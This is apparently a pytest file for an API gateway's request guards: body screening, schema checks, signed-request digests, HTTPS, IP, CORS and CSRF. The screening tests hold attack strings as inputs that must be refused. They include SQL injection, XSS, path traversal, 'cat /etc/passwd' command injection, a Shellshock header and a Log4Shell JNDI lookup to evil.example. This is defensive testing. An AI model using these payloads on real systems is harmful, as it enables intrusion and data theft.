"""Guards that look at bodies or answer by themselves: what passes, what does not, and that bodies go on untouched."""

from __future__ import annotations

import json
from collections.abc import Awaitable
from typing import Any

import pytest

from spork.adapters.jsonschema_rs.body_schema import JsonBodySchema, SchemaRefused
from spork.adapters.memory.signatures import MemorySignatures
from spork.application.callers.shared_secrets import SignedRequest
from spork.application.exchange.bodies import BegunBody, HeldBody, hold
from spork.application.guards.addresses import AddressGuard
from spork.application.guards.cors import CorsGuard
from spork.application.guards.csrf import CsrfGuard
from spork.application.guards.schema import SchemaGuard
from spork.application.guards.screen import ScreenGuard
from spork.application.guards.security import SecurityGuard
from spork.domain.identity.authorization import CorsPolicy, RequestSecurity
from spork.domain.identity.consumers import Consumer
from spork.domain.identity.signatures import sign_request
from spork.domain.identity.tokens import Refused, Verified
from spork.domain.outcomes import Denial, LocalResponse
from spork.domain.security.threat_rules import Screen
from tests.exchanges import Body, exchange
from tests.tokens import NOW

JSON = {"content-type": "application/json"}


async def settle(verdict: Any) -> Any:
    return await verdict if isinstance(verdict, Awaitable) else verdict


async def rest_of(body: Any) -> bytes:
    """What a target would get of this body."""
    whole = body.whole()
    if whole is not None:
        return bytes(whole)
    pieces = []
    while piece := await body.read():
        pieces.append(piece)
    return b"".join(pieces)


# ------------------------------------------------------------------------------------------------------------- holding


@pytest.mark.parametrize("pieces", [(), (b"abc",), (b"a", b"b", b"c"), (b"abcd", b"efgh"), (b"abcdefghij",)])
@pytest.mark.parametrize("declared", [True, False])
@pytest.mark.parametrize("maximum", [0, 3, 5, 8, 100])
async def test_a_held_body_goes_on_whole(pieces: tuple[bytes, ...], declared: bool, maximum: int) -> None:
    content = b"".join(pieces)
    one = exchange(body=Body(*pieces, length=len(content) if declared else None))
    found = await hold(one, maximum)
    assert found == (content if len(content) <= maximum else None)
    assert await rest_of(one.body) == content


async def test_a_held_body_can_be_looked_at_again() -> None:
    one = exchange(body=Body(b"ab", b"cd", length=None))
    assert await hold(one, 10) == b"abcd"
    assert await hold(one, 10) == b"abcd"
    assert isinstance(one.body, HeldBody)
    assert (one.body.length, one.body.received, await one.body.read(), await one.body.read()) == (4, 4, b"abcd", b"")


async def test_a_body_too_large_to_hold_streams_on_and_is_not_read_further() -> None:
    body = Body(b"aaaa", b"bbbb", b"cccc", length=None)
    one = exchange(body=body)
    assert await hold(one, 5) is None
    assert isinstance(one.body, BegunBody)
    assert body.received == 8
    one.body.limit(100)
    assert body.maximum == 100
    assert await rest_of(one.body) == b"aaaabbbbcccc"


# ---------------------------------------------------------------------------------------------------------------- screen


def screened(block: bool = True) -> ScreenGuard:
    return ScreenGuard(Screen(), block)


@pytest.mark.parametrize("pieces", [1, 3])
@pytest.mark.parametrize(
    ("kind", "content", "refused"),
    [
        ("application/json", {"q": "1' OR '1'='1"}, True),
        ("application/json; charset=utf-8", {"deep": [{"x": ["<script>alert(1)</script>"]}]}, True),
        ("application/vnd.api+json", {"../../etc/passwd": 1}, True),
        ("application/json", {"name": "O'Brien", "note": "select a seat; drop by"}, False),
        ("application/x-www-form-urlencoded", "a=1&b=%27+or+1%3D1--", True),
        ("application/x-www-form-urlencoded", "a=%27&b=%2D%2D", False),
        ("text/plain", "x; cat /etc/passwd", True),
        ("application/json", "{not json '; DROP TABLE users", True),
        ("application/octet-stream", "x; cat /etc/passwd", False),
        ("image/png", "<script>alert(1)</script>", False),
    ],
)
async def test_bodies_are_screened_by_their_kind(kind: str, content: object, refused: bool, pieces: int) -> None:
    raw = content.encode() if isinstance(content, str) else json.dumps(content).encode()
    cut = max(1, len(raw) // pieces)
    body = Body(*(raw[at : at + cut] for at in range(0, len(raw), cut)), length=len(raw) if pieces == 1 else None)
    one = exchange("POST", headers={"content-type": kind}, body=body)
    verdict = await settle(screened().admit(one))
    assert (verdict is not None) is refused
    assert await rest_of(one.body) == raw


@pytest.mark.parametrize("pieces", [1, 3])
@pytest.mark.parametrize("known", [True, False])
@pytest.mark.parametrize("maximum", [16 * 1024, 40_000])
async def test_bodies_are_screened_up_to_a_size_and_larger_ones_pass_unseen_and_whole(
    maximum: int, known: bool, pieces: int
) -> None:
    guard = ScreenGuard(Screen(), block=True, maximum=maximum)
    for size in (maximum, maximum + 1):
        raw = b"a" * (size - 21) + b"'; DROP TABLE users; "
        cut = -(-size // pieces)
        body = Body(*(raw[at : at + cut] for at in range(0, size, cut)), length=size if known else None)
        one = exchange("POST", headers={"content-type": "text/plain"}, body=body)
        assert (await settle(guard.admit(one)) is not None) is (size == maximum)
        assert await rest_of(one.body) == raw


@pytest.mark.parametrize(
    "where",
    [
        {"path": "/a/%27%20or%201%3D1--"},
        {"query": b"q=%3Cscript%3Ealert(1)%3C/script%3E"},
        {"query": b"a=1&%3Csvg/onload=alert(1)%3E=2"},
        {"headers": {"user-agent": "() { :; }; /bin/sh -c id"}},
        {"headers": {"referer": "https://x.example/?q=' UNION SELECT 1,2--"}},
        {"headers": {"cookie": "id=1; name=${jndi:ldap://evil.example/a}"}},
    ],
)
def test_heads_are_screened(where: dict[str, Any]) -> None:
    one = exchange(**where)
    verdict = screened().admit(one)
    assert isinstance(verdict, Denial)
    assert verdict.reason == "screened"
    assert one.threat_rule
    watched = exchange(**where)
    assert screened(block=False).admit(watched) is None
    assert watched.threat_rule == one.threat_rule


def test_headers_with_a_grammar_of_their_own_are_left_alone() -> None:
    ordinary = {
        "accept": "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8", "sec-ch-ua": '"Chromium";v="126", "Not/A)Brand";v="8"',
        "if-none-match": 'W/"abc"', "accept-language": "en-US,en;q=0.5", "x-note": "' or 1=1--",
    }  # fmt: skip
    assert screened().admit(exchange(headers=ordinary)) is None


# ---------------------------------------------------------------------------------------------------------------- schema

SCHEMA = JsonBodySchema(
    json.dumps(
        {
            "type": "object", "required": ["name"], "additionalProperties": False,
            "properties": {"name": {"type": "string", "maxLength": 5}, "tags": {"type": "array", "items": {"enum": ["a"]}}},
        }
    )
)  # fmt: skip


@pytest.mark.parametrize("pieces", [1, 2])
@pytest.mark.parametrize(
    ("raw", "error"),
    [
        (b'{"name": "a"}', None),
        (b'{"name": "a", "tags": ["a"]}', None),
        (b"{}", "/: name is required"),
        (b'{"name": 1}', "/name: must be string"),
        (b'{"name": "secret"}', "/name: does not satisfy maxLength 5"),
        (b'{"name": "a", "x": 1}', "/: has a property that is not allowed"),
        (b'{"name": "a", "tags": ["b"]}', "/tags/0: does not satisfy enum"),
        (b'{"name": "a", "name": "b"}', "not JSON: a name stands twice"),
        (b'{"name": NaN}', "not JSON: NaN is not a JSON number"),
        (b"\xff", "not UTF-8"),
        (b"[" * 100_000, "nested too deeply"),
        (b"", "not JSON"),
    ],
)
async def test_bodies_must_fit_their_schema(raw: bytes, error: str | None, pieces: int) -> None:
    half = len(raw) // pieces
    body = Body(raw[:half], raw[half:], length=None) if pieces == 2 else Body(raw)
    one = exchange("POST", headers=JSON, body=body)
    verdict = await settle(SchemaGuard(SCHEMA).admit(one))
    if error is None:
        assert verdict is None
    else:
        assert verdict.reason == "body_invalid"
        assert verdict.members["errors"][0].startswith(error)
        assert "secret" not in repr(verdict)
    assert await rest_of(one.body) == raw


async def test_other_kinds_and_larger_bodies_are_refused() -> None:
    guard = SchemaGuard(SCHEMA, maximum=10)
    plain = exchange("POST", headers={"content-type": "text/plain"}, body=Body(b"{}"))
    assert (await settle(guard.admit(plain))).reason == "unsupported_media_type"
    for length in (20, None):
        large = exchange("POST", headers=JSON, body=Body(b"x" * 8, b"y" * 12, length=length))
        assert (await settle(guard.admit(large))).reason == "body_too_large"
    assert guard.admit(exchange("GET")) is None


@pytest.mark.parametrize(
    "text",
    ["{", '{"type": 5}', '{"$ref": "https://evil.example/schema"}', '{"properties": {"a": {"$ref": "other.json#/x"}}}'],
)
def test_schemas_that_cannot_be_used(text: str) -> None:
    with pytest.raises(SchemaRefused):
        JsonBodySchema(text)


# ------------------------------------------------------------------------------------------------------ signed requests


async def test_the_body_of_a_signed_request_is_held_to_its_digest() -> None:
    import base64
    import hashlib

    content = b"x" * 3000
    digest = b"sha-256=:" + base64.b64encode(hashlib.sha256(content).digest()) + b":"
    covered = ("@method", "@authority", "@path", "content-digest")
    method = SignedRequest({"sigrid": Consumer("sigrid", signature_secret="s3cret")}.get, MemorySignatures())

    def signed(body: Body, serial: int) -> Any:
        one = exchange("POST", "/x", [(b"content-digest", digest)], body=body)
        given, signature = sign_request(one.head, b"s3cret", "sigrid", int(NOW) - serial, covered)
        one.head.headers += ((b"signature-input", given), (b"signature", signature))
        return one

    for serial, body in enumerate((Body(content), Body(content[:10], content[10:], length=None))):
        one = signed(body, serial)
        assert isinstance(await settle(method.authenticate(one)), Verified)
        assert await rest_of(one.body) == content
    assert await settle(method.authenticate(signed(Body(content + b"!"), 5))) == Refused("digest_mismatch")
    assert await settle(method.authenticate(signed(Body(content), 0))) == Refused("signature_replayed")


@pytest.mark.parametrize("key_id", ["nobody", "acme"])
async def test_a_consumer_without_a_secret_signs_nothing(key_id: str) -> None:
    """An empty secret must not verify what is signed with an empty secret."""
    method = SignedRequest({"acme": Consumer("acme")}.get, MemorySignatures())
    one = exchange("GET", "/x")
    for secret in (b"", b"\0" * 32):
        given, signature = sign_request(one.head, secret, key_id, int(NOW), ("@method", "@authority", "@path"))
        two = exchange("GET", "/x", [(b"signature-input", given), (b"signature", signature)])
        assert await settle(method.authenticate(two)) == Refused("signature_mismatch")


# ------------------------------------------------------------------------------------------------- the ones without bodies


@pytest.mark.parametrize(
    ("https", "scheme", "method", "found"),
    [
        ("off", "http", "GET", None), ("refuse", "https", "GET", None), ("refuse", "http", "GET", "https_required"),
        ("redirect", "http", "GET", "redirect"), ("redirect", "http", "HEAD", "redirect"),
        ("redirect", "http", "POST", "https_required"), ("redirect", "https", "POST", None),
    ],
)  # fmt: skip
def test_https_is_enforced(https: str, scheme: str, method: str, found: str | None) -> None:
    one = exchange(method, "/a", query=b"b=1", scheme=scheme, host=b"api.example.com:8080")
    verdict = SecurityGuard(RequestSecurity(https=https, hsts="max-age=5")).admit(one)
    assert getattr(verdict, "reason", getattr(verdict, "kind", None)) == found
    if isinstance(verdict, LocalResponse):
        assert verdict.headers == ((b"location", b"https://api.example.com/a?b=1"),)
        assert verdict.status == 308
    assert ((b"strict-transport-security", b"max-age=5") in one.response_headers) is (scheme == "https")


@pytest.mark.parametrize(
    ("client", "let_in"), [("10.0.0.5", True), ("10.9.9.9", False), ("192.0.2.1", False), ("", False)]
)
def test_deny_wins_over_allow(client: str, let_in: bool) -> None:
    guard = AddressGuard(("10.0.0.0/8",), ("10.9.0.0/16",))
    assert (guard.admit(exchange(client=client)) is None) is let_in


def test_a_preflight_is_answered_before_anybody_is_asked_for_credentials() -> None:
    guard = CorsGuard(CorsPolicy(("https://app.example.com",)))
    asks = {"origin": "https://app.example.com", "access-control-request-method": "GET"}
    verdict = guard.admit(exchange("OPTIONS", headers=asks))
    assert isinstance(verdict, LocalResponse)
    assert verdict.kind == "preflight"
    actual = exchange(headers={"origin": "https://app.example.com"})
    assert guard.admit(actual) is None
    assert (b"access-control-allow-origin", b"https://app.example.com") in actual.response_headers


def test_csrf_tokens_are_handed_out_and_taken_back() -> None:
    guard = CsrfGuard((), b"k" * 32)
    first = exchange("GET", headers={"cookie": "s=1"}, scheme="http")
    assert guard.admit(first) is None
    ((_, cookie),) = first.response_headers
    value = cookie.partition(b";")[0].partition(b"=")[2].decode()
    assert b"Secure" not in cookie
    proof = {"cookie": f"s=1; spork-csrf={value}", "x-csrf-token": value}
    assert guard.admit(exchange("POST", headers=proof)) is None
    assert isinstance(guard.admit(exchange("POST", headers={**proof, "x-csrf-token": value[::-1]})), Denial)
    assert isinstance(CsrfGuard((), b"x" * 32).admit(exchange("POST", headers=proof)), Denial)


# -------------------------------------------------------------------------------------------------------- spork explain


async def test_guards_say_what_they_would_say_and_do_nothing() -> None:
    from spork.adapters.memory.rate_limiter import MemoryRateLimiter
    from spork.adapters.memory.token_verifier import KnownTokens
    from spork.application.callers.failures import FailedAuthentication
    from spork.application.callers.methods import BearerToken
    from spork.application.guards.authorization import AuthorizationGuard
    from spork.application.guards.credentials import CredentialsGuard
    from spork.domain.identity.authorization import AuthPolicy
    from spork.domain.identity.tokens import Principal

    class Loud:
        def publish(self, kind: str, subject: str, data: dict[str, object]) -> None:
            raise AssertionError(kind)

    policy = AuthPolicy(roles=frozenset(("reader",)))
    known = KnownTokens({b"good": Principal("alice", "jwt", roles=frozenset(("reader",)))})
    failures = FailedAuthentication(MemoryRateLimiter())
    credentials = CredentialsGuard(policy, [BearerToken("jwt", known)], failures=failures, events=Loud())
    authorization = AuthorizationGuard(policy, Loud())
    good, bad, none = (
        exchange(headers=h) for h in ({"authorization": "Bearer good"}, {"authorization": "Bearer x"}, {})
    )

    async def said(guard: Any, one: Any) -> tuple[str, str]:
        found = await settle(guard.explain(one))
        return found.verdict, found.detail

    assert await said(credentials, good) == ("pass", "alice by jwt")
    assert await said(authorization, good) == ("pass", "alice may do this")
    for _ in range(50):
        assert await said(credentials, bad) == ("refuse", "invalid_credentials: unknown")
    assert failures.wait(bad) == 0.0
    assert await said(credentials, none) == ("refuse", "unauthenticated: none was shown")
    assert await said(authorization, none) == ("unknown", "depends on who calls")
    assert await said(AddressGuard(("10.0.0.0/8",), ()), none) == ("refuse", "address_denied")
    attack = exchange(query=b"q=%27+or+1%3D1--")
    assert (await said(ScreenGuard(Screen(), True, Loud()), attack))[0] == "refuse"
    assert (await said(ScreenGuard(Screen(), False, Loud()), attack))[1].startswith("only observed")
    assert await said(CsrfGuard((), b"k", Loud()), exchange("POST", headers={"cookie": "s=1"})) == (
        "refuse",
        "csrf_failed: no_proof",
    )
    assert await said(SecurityGuard(RequestSecurity(https="redirect")), exchange(scheme="http")) == (
        "answer",
        "answered here: redirect",
    )
    assert (
        await said(CorsGuard(CorsPolicy(("https://a.example",))), exchange(headers={"origin": "https://b.example"}))
    )[0] == "pass"
